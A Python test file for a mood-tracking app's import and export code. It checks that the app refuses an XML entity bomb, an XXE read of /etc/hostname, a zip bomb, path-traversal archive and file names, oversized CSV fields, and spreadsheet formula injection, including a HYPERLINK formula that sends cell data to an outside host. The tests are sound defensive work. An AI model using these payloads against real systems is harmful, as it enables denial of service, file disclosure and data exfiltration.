"""A file that somebody made to harm who imports it, and texts that harm who opens an export. docs/attacks/files.md."""

import csv
import io
import zipfile
from pathlib import Path
from typing import Any

import pytest
from tests.simulators.entry import NOTHING, Play, entry

from mindhaven.kinds import Record
from mindhaven.sdk.exports import Exported, write_csv_zip
from mindhaven.sdk.imports import archive, text, xml_stream

DEPTH = 4


def bomb(doctype: str = "HealthData") -> bytes:
    """Return XML of some hundred bytes whose entities make 10,000 signs of one attribute."""
    entities = ['<!ENTITY a0 "x">'] + [f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, DEPTH + 1)]
    inner = "".join(entities)
    return f'<!DOCTYPE {doctype} [{inner}]><HealthData><Record value="&a{DEPTH};"/></HealthData>'.encode()


def elements(data: bytes) -> list[Any]:
    return list(xml_stream.elements(io.BytesIO(data), frozenset({"Record"})))


def _without_dtd(stream: Any) -> bytes:
    """Stands in for the cutter of internal DTDs: leaves all as it is."""
    return stream.read()


XML = "sdk.imports.xml_stream."


@entry("XML bomb", "import-xml-entity",
       off=(f"{XML}_without_dtd", f"{XML}_no_doctype: _entity", f"{XML}_no_entity: _entity"),
       then="a few hundred bytes fill the memory")  # fmt: skip
def test_entities_are_refused_before_they_grow(play: Play) -> None:
    assert len(bomb()) < 500
    with play.honest():
        (found,) = elements(b'<HealthData><Record value="x"/></HealthData>')
        assert found.attributes == {"value": "x"}
    with play.lie(advice=False):
        elements(bomb())
    with play.off(_without_dtd=_without_dtd):
        (found,) = elements(bomb())
        assert found.attributes == {"value": "x" * 10**DEPTH}


@entry("XML that asks for another file", "import-xml-entity",
       off=(f"{XML}_without_dtd", f"{XML}_no_doctype: _entity", f"{XML}_no_entity: _entity"),
       then="the reader is asked for a file of the person's own; a last refusal stands behind it")  # fmt: skip
def test_nothing_outside_is_asked_for(play: Play, monkeypatch: pytest.MonkeyPatch) -> None:
    outside = b'<!DOCTYPE H [<!ENTITY e SYSTEM "file:///etc/hostname">]><H><Record/>&e;</H>'
    with play.honest():
        assert len(elements(b"<H><Record/></H>")) == 1
    with play.lie(advice=False):
        elements(outside)
    asked: list[str] = []

    def read(context: str, base: str | None, system: str | None, public: str | None) -> int:
        asked.append(system or "")
        return 1

    monkeypatch.setattr(xml_stream, "_no_external", read)
    with play.off(_without_dtd=_without_dtd):
        elements(outside)
    assert asked == ["file:///etc/hostname"]


@entry("zip bomb", "import-archive-bomb", off="sdk.imports.archive.opened: import-archive-bomb",
       then="a file of ten kilobytes unpacks to ten megabytes")  # fmt: skip
def test_what_unpacks_to_far_more_is_refused(tmp_path: Path, play: Play) -> None:
    path = tmp_path / "export.zip"
    size = 10_000_000
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("export.xml", bytes(size))
        made.writestr("small.xml", b"<a/>")
    assert path.stat().st_size < 20_000
    large, small = archive.members(path)

    def read(member: zipfile.ZipInfo) -> int:
        with archive.opened(path, member) as stream:
            return len(stream.read())

    with play.honest():
        assert read(small) == 4
    with play.lie(advice=False):
        read(large)
    with play.off():
        assert read(large) == size


@entry("path names in an archive", NOTHING,
       why="No member is ever written to disk, so that no name is used: there is no check to switch off.")  # fmt: skip
def test_names_in_an_archive_lead_nowhere(tmp_path: Path, play: Play) -> None:
    folder = tmp_path / "in" / "here"
    folder.mkdir(parents=True)
    path = folder / "export.zip"
    names = ["../escaped.xml", "/absolute.xml", "..\\windows.xml", "plain.xml"]
    with zipfile.ZipFile(path, "w") as made:
        for name in names:
            made.writestr(name, b"<a/>")
    found = archive.members(path)
    with play.honest(), archive.opened(path, found[-1]) as stream:
        assert stream.read() == b"<a/>"
    with play.harmless():
        for member in found:
            with archive.opened(path, member) as stream:
                assert stream.read() == b"<a/>"
        assert [one for one in tmp_path.rglob("*") if one.is_file()] == [path]


@entry("giant fields", "import-line-length", off="sdk.imports.text._lines: import-line-length",
       then="one line without an end is taken into memory, piece by piece, as rows")  # fmt: skip
def test_a_line_without_an_end_is_refused(tmp_path: Path, play: Play, monkeypatch: pytest.MonkeyPatch) -> None:
    assert (text.MAX_LINE_CHARS, text.MAX_FIELD_CHARS) == (8_000_000, 1_000_000)
    monkeypatch.setattr(text, "MAX_LINE_CHARS", 5_000)
    path = tmp_path / "moods.csv"
    path.write_text("day,note\n2026-01-01,short\n" + "x" * 12_000)
    fine = tmp_path / "fine.csv"
    fine.write_text("day,note\n2026-01-01,short\n")
    with play.honest():
        assert [row.cells for row in text.read_table(fine)] == [["day", "note"], ["2026-01-01", "short"]]
    with play.lie(advice=False):
        list(text.read_table(path))
    with play.off():
        assert [len(row.cells[0]) for row in text.read_table(path)][2:] == [5_000, 5_000, 2_000]


def test_a_giant_cell_is_told_by_its_line_and_the_rest_goes_on(tmp_path: Path) -> None:
    path = tmp_path / "moods.csv"
    path.write_text('day,note\n2026-01-01,"' + "x" * 1_000_001 + '"\n2026-01-02,after\n')
    rows = list(text.read_table(path))
    assert [row.fault for row in rows] == ["", "a cell is too long", ""]
    assert rows[-1].cells == ["2026-01-02", "after"]


# -- exports


def exported(note: str, kind: str = "mindhaven/mood") -> Exported:
    body = {"valence": 0.0, "note": note} if kind == "mindhaven/mood" else {"text": note}
    record = Record(kind=kind, version=1, created_at=0, zone="UTC", body=body)
    return Exported(record=record, item=bytes(16), revision=1, collection_name="Daily", author=bytes(32))


def tables(*items: Exported) -> dict[str, bytes]:
    target = io.BytesIO()
    write_csv_zip(items, target)
    with zipfile.ZipFile(target) as made:
        return {name: made.read(name) for name in made.namelist()}


def cells(table: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(table.decode("utf-8-sig"), newline="")) for cell in row]


def defused(text: str) -> str:
    """Stands in for what makes a cell harmless: leaves it as it is."""
    return text


FORMULAS = ['=HYPERLINK("http://example.org/?"&A1)', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


@entry("CSV formula cells on export", NOTHING, off="sdk.exports.csv.defused",
       then="a text that another wrote runs in the spreadsheet of who opens the export")  # fmt: skip
def test_no_cell_of_an_export_is_a_formula(play: Play) -> None:
    with play.honest():
        assert "plain words" in cells(tables(exported("plain words"))["mood.csv"])
    with play.harmless():
        for formula in FORMULAS:
            found = cells(tables(exported(formula))["mood.csv"])
            assert f"'{formula}" in found
            assert not [cell for cell in found if cell.startswith(("=", "+", "@", "\t", "\r"))]
    with play.off(defused=defused):
        assert FORMULAS[0] in cells(tables(exported(FORMULAS[0]))["mood.csv"])


def _file_name(kind: str, used: set[str]) -> str:
    """Stands in for the name of a table: the kind's own."""
    return f"{kind}.csv"


@entry("path names in an export", NOTHING, off="sdk.exports.csv._file_name",
       then="a file of the export lands outside the folder that was named")  # fmt: skip
def test_no_kind_names_a_path(play: Play) -> None:
    wicked = "org.evil/../../../startup"
    with play.honest():
        assert "org.example-dream.csv" in tables(exported("x", kind="org.example/dream"))
    with play.harmless():
        names = set(tables(exported("x", kind=wicked)))
        assert names == {"org.evil-..-..-..-startup.csv", "README.txt"}
        assert not [name for name in names if "/" in name or "\\" in name]
    with play.off(_file_name=_file_name):
        assert f"{wicked}.csv" in tables(exported("x", kind=wicked))
